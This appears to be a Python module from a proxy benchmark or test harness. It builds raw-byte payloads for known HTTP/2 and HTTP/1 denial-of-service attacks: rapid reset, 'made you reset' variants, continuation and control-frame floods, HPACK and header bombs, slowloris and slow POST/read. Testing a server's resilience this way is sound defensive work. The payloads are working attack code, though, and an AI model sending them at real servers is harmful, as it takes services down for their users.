"""The attacks, as bytes: what a connection begins with, what it then repeats. One per line of the table in docs/benchmarks.md.
Pure. Used by attacker.py and floods.py."""

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
BATCH = 64


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def number(value):
    return value.to_bytes(4, "big")


def text(value):
    """A length of RFC 7541 §5.1 with a prefix of seven bits, then the bytes."""
    if len(value) < 127:
        return bytes([len(value)]) + value
    rest, out = len(value) - 127, b"\x7f"
    while rest >= 128:
        out += bytes([rest % 128 + 128])
        rest //= 128
    return out + bytes([rest]) + value


def literal(name, value, first=b"\0"):
    return first + text(name) + text(value)


def request(method):
    return (literal(b":method", method) + literal(b":scheme", b"http") + literal(b":authority", b"web")
            + literal(b":path", b"/b1k"))


GET, POST = request(b"GET"), request(b"POST")
HELLO = PREFACE + frame(SETTINGS, 0, 0)
# SETTINGS_INITIAL_WINDOW_SIZE (4).
NO_WINDOW = PREFACE + frame(SETTINGS, 0, 0, b"\0\4" + number(0))
ONE_BYTE_WINDOW = PREFACE + frame(SETTINGS, 0, 0, b"\0\4" + number(1))


def whole(i):
    return frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, GET)


def opened(i):
    return frame(HEADERS, END_HEADERS, 2 * i + 1, POST)


def bomb(i, name):
    block = POST
    if i == 0:
        block += literal(name, b"v" * 3900, b"\x40")
    return frame(HEADERS, END_HEADERS, 2 * i + 1, block + b"\xbe" * 15)


class Attack:
    """`front` once, then `step(i)` for i = 0, 1, …; in batches, or with `pause` seconds between single steps. `closed`: the proxy
    must end the connection within a second; other attacks are only bounded."""

    def __init__(self, front, step, closed=True, pause=0.0, steps=None):
        self.front = front
        self.step = step
        self.closed = closed
        self.pause = pause
        self.steps = steps


def made_you_reset(trigger):
    return Attack(HELLO, lambda i: (whole(i) if trigger[0] else opened(i)) + trigger[1](2 * i + 1))


ATTACKS = {
    "rapid reset": Attack(HELLO, lambda i: whole(i) + frame(RST_STREAM, 0, 2 * i + 1, number(8))),
    "made you reset: zero increment": made_you_reset((False, lambda s: frame(WINDOW_UPDATE, 0, s, number(0)))),
    "made you reset: window overflow": made_you_reset((False, lambda s: frame(WINDOW_UPDATE, 0, s, number(0x7fffffff)))),
    "made you reset: data after the end": made_you_reset((True, lambda s: frame(DATA, 0, s, b"x"))),
    "made you reset: head after the end": made_you_reset((True, lambda s: frame(HEADERS, END_HEADERS, s, GET))),
    "made you reset: priority length": made_you_reset((False, lambda s: frame(PRIORITY, 0, s, b"four"))),
    "made you reset: priority on itself": made_you_reset((False, lambda s: frame(PRIORITY, 0, s, number(s) + b"\x10"))),
    "continuation": Attack(HELLO + frame(HEADERS, END_STREAM, 1, GET), lambda i: frame(CONTINUATION, 0, 1, literal(b"x", b"y"))),
    "ping": Attack(HELLO, lambda i: frame(PING, 0, 0, b"12345678")),
    "settings": Attack(HELLO, lambda i: frame(SETTINGS, 0, 0)),
    "priority": Attack(HELLO, lambda i: frame(PRIORITY, 0, 1, number(0) + b"\x10")),
    "window update": Attack(HELLO, lambda i: frame(WINDOW_UPDATE, 0, 0, number(1))),
    "empty frames": Attack(HELLO + opened(0), lambda i: frame(DATA, 0, 1)),
    "hpack bomb": Attack(HELLO, lambda i: frame(HEADERS, END_HEADERS, 2 * i + 1, POST + literal(b"x", b"v" * 3900, b"\x40")
                                                + b"\xbe" * 12000)),
    "http/2 bomb: indexed fields": Attack(NO_WINDOW, lambda i: bomb(i, b"x-big"), closed=False, steps=100),
    "http/2 bomb: cookie crumbs": Attack(NO_WINDOW, lambda i: bomb(i, b"cookie"), closed=False, steps=100),
    "one byte windows": Attack(ONE_BYTE_WINDOW + whole(0), lambda i: frame(WINDOW_UPDATE, 0, 1, number(1))),
    "one byte data": Attack(HELLO + opened(0), lambda i: frame(DATA, 0, 1, b"x"), closed=False),
    "http/1 slowloris": Attack(b"GET / HTTP/1.1\r\n", lambda i: b"x: y\r\n", closed=False, pause=0.5),
    "http/1 slow post": Attack(b"POST / HTTP/1.1\r\nHost: web\r\nContent-Length: 1000000\r\n\r\n", lambda i: b"x", closed=False,
                               pause=0.5),
    "http/1 slow read": Attack(b"GET /b1m HTTP/1.1\r\nHost: web\r\n\r\n" * 50, lambda i: b"", closed=False, pause=0.5),
    "http/1 one byte chunks": Attack(b"POST / HTTP/1.1\r\nHost: web\r\nTransfer-Encoding: chunked\r\n\r\n",
                                     lambda i: b"1\r\nx\r\n", closed=False),
}
